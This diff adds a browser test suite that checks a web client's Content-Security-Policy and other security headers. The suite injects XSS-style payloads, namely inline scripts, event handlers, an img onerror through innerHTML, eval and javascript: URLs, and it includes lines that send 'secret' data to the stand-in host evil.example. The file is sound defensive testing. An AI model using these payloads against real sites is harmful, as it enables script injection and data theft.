@@ -1,0 +1,229 @@
+// The headers of the built client, as the Worker serves it: that they stand there, that they bite, and that nothing of ours is bitten.
+
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { launchBrowser } from "../support/browser.ts";
+import { type Product, startProduct, Visitor } from "./product.ts";
+
+let browser: Browser;
+let product: Product;
+
+beforeAll(async () => {
+	[browser, product] = await Promise.all([launchBrowser(), startProduct()]);
+});
+afterAll(async () => {
+	await browser?.close();
+	await product?.stop();
+});
+
+const policy = {
+	"default-src": "'none'",
+	"script-src": "'self'",
+	"style-src": "'self'",
+	"img-src": "'self'",
+	"font-src": "'self'",
+	"connect-src": "'self'",
+	"manifest-src": "'self'",
+	"base-uri": "'none'",
+	"form-action": "'none'",
+	"frame-ancestors": "'none'",
+	"object-src": "'none'",
+	"require-trusted-types-for": "'script'",
+	"trusted-types": "'none'",
+};
+
+describe("the headers", () => {
+	it("stand on the page, on its parts, and on every address that the page answers for", async () => {
+		const page = await (await fetch(product.url)).text();
+		const [script] = /\/assets\/[\w-]+\.js/.exec(page) ?? [];
+		const [style] = /\/assets\/[\w-]+\.css/.exec(page) ?? [];
+		for (const path of ["/", "/conversations/x", "/no/such/place", "/icon.svg", script, style]) {
+			const { headers } = await fetch(`${product.url}${path}`);
+			const directives = headers.get("content-security-policy")?.split("; ") ?? [];
+			expect(Object.fromEntries(directives.map((one) => one.split(/ (.*)/)))).toEqual(policy);
+			expect(Object.fromEntries(headers)).toMatchObject({
+				"strict-transport-security": expect.stringMatching(/^max-age=\d{8}$/),
+				"x-content-type-options": "nosniff",
+				"x-dns-prefetch-control": "off",
+				"referrer-policy": "no-referrer",
+				"permissions-policy": expect.stringMatching(/camera=\(\).*geolocation=\(\).*microphone=\(\)/),
+				"cross-origin-opener-policy": "same-origin",
+				"cross-origin-resource-policy": "same-origin",
+			});
+		}
+	});
+
+	it("stand in the way of nothing that the product does", async () => {
+		const ann = await Visitor.arrive(browser);
+		await ann.page.addInitScript(() => {
+			document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => console.error(effectiveDirective));
+		});
+		await ann.signIn(product.url, "Ann");
+		await ann.newConversation();
+		await ann.invite();
+		await ann.page.keyboard.press("Escape");
+		await ann.say("a table, please");
+		await ann.stop.waitFor();
+		await ann.stop.waitFor({ state: "detached" });
+		await ann.say("code");
+		await ann.log.getByRole("button", { name: "Copy" }).click();
+		await ann.log.getByRole("button", { name: "Copied" }).waitFor();
+		await ann.page.reload();
+		await ann.connected();
+		expect(ann.complaints).toEqual([]);
+		await ann.leave();
+	});
+});
+
+declare function harm(): void;
+
+/** What runs in the page is cut out of this file: it knows nothing but its own lines. */
+const injections: [what: string, directive: string, inject: () => unknown][] = [
+	["an inline script", "script-src-elem", () => document.body.append(Object.assign(document.createElement("script"), { text: "harm()" }))],
+	[
+		"an inline script of text nodes",
+		"script-src-elem",
+		() => {
+			const script = document.createElement("script");
+			script.append("harm()");
+			document.body.append(script);
+		},
+	],
+	[
+		"a handler",
+		"script-src-attr",
+		() => {
+			document.body.setAttribute("onclick", "harm()");
+			document.body.click();
+		},
+	],
+	[
+		"HTML",
+		"script-src-attr",
+		() => {
+			document.body.innerHTML = "<img src=/x.svg onload=harm() onerror=harm()>";
+		},
+	],
+	// biome-ignore lint/security/noGlobalEval: it is what must not work.
+	["eval", "script-src", () => setTimeout(() => globalThis.eval("harm()"))],
+	["a function of text", "script-src", () => setTimeout(() => new Function("harm()")())],
+	["a timer of text", "script-src", () => setTimeout("harm()")],
+	[
+		"a script's address",
+		"script-src-elem",
+		() => {
+			const link = Object.assign(document.createElement("a"), { href: "javascript:harm()" });
+			document.body.append(link);
+			link.click();
+		},
+	],
+	[
+		"a script from elsewhere",
+		"script-src-elem",
+		() => {
+			document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: "https://evil.example/x.js" }));
+		},
+	],
+	[
+		"a worker of text",
+		"worker-src",
+		() => {
+			const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
+			worker.onmessage = () => harm();
+		},
+	],
+	["a picture from elsewhere", "img-src", () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/i.png" }))],
+	[
+		"a picture by style",
+		"img-src",
+		() => {
+			document.body.style.backgroundImage = "url(https://evil.example/i.png)";
+		},
+	],
+	[
+		"inline style",
+		"style-src-elem",
+		() => {
+			const style = document.createElement("style");
+			style.append("@import url(https://evil.example/x.css)");
+			document.body.append(style);
+		},
+	],
+	[
+		"style from elsewhere",
+		"style-src-elem",
+		() => {
+			document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" }));
+		},
+	],
+	["a question elsewhere", "connect-src", () => fetch("https://evil.example/?q=secret")],
+	["a socket elsewhere", "connect-src", () => new WebSocket("wss://evil.example")],
+	["a beacon", "connect-src", () => navigator.sendBeacon("https://evil.example", "secret")],
+	["a frame", "frame-src", () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example" }))],
+	[
+		"an object",
+		"object-src",
+		() => document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example" })),
+	],
+	["a film", "media-src", () => document.body.append(Object.assign(document.createElement("video"), { src: "https://evil.example/v" }))],
+	[
+		"another base",
+		"base-uri",
+		() => {
+			document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
+			if (document.baseURI.startsWith("https://evil.example/")) harm();
+		},
+	],
+	[
+		"a form",
+		"form-action",
+		() => {
+			const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
+			document.body.append(form);
+			form.submit();
+		},
+	],
+];
+
+/** The policy as it is; as it is for a browser without Trusted Types; and none at all. */
+type Strictness = "whole" | "without Trusted Types" | "none";
+
+/** What comes of an injection first: harm, or the directive that it offends. */
+async function outcome(inject: () => unknown, strictness: Strictness): Promise<string> {
+	const context = await browser.newContext({ bypassCSP: strictness === "none" });
+	const first = Promise.withResolvers<string>();
+	const harm = () => first.resolve("harm");
+	await context.exposeFunction("harm", harm);
+	await context.exposeFunction("offended", first.resolve);
+	await context.route("https://evil.example/**", (route) => {
+		harm();
+		return route.fulfill({ body: "" });
+	});
+	if (strictness === "without Trusted Types")
+		await context.route(`${product.url}/`, async (route) => {
+			const response = await route.fetch();
+			const { "content-security-policy": whole = "", ...headers } = response.headers();
+			const rest = whole.replace(/; (require-)?trusted-types.*/, "");
+			await route.fulfill({ response, headers: { ...headers, "content-security-policy": rest } });
+		});
+	const page = await context.newPage();
+	page.on("websocket", harm);
+	await page.goto(product.url);
+	await page.evaluate(() => {
+		const { offended } = window as unknown as { offended(directive: string): void };
+		document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => offended(effectiveDirective));
+	});
+	// What is refused may throw, which stops the attack and not the test.
+	await page.evaluate(inject).catch(() => {});
+	const result = await first.promise;
+	await context.close();
+	return result;
+}
+
+describe("the policy stops, and nothing else does,", () => {
+	it.each(injections)("%s", async (_what, directive, inject) => {
+		expect(await outcome(inject, "none")).toBe("harm");
+		expect(await outcome(inject, "without Trusted Types")).toBe(directive);
+		expect(await outcome(inject, "whole")).toBeOneOf([directive, "require-trusted-types-for"]);
+	});
+});
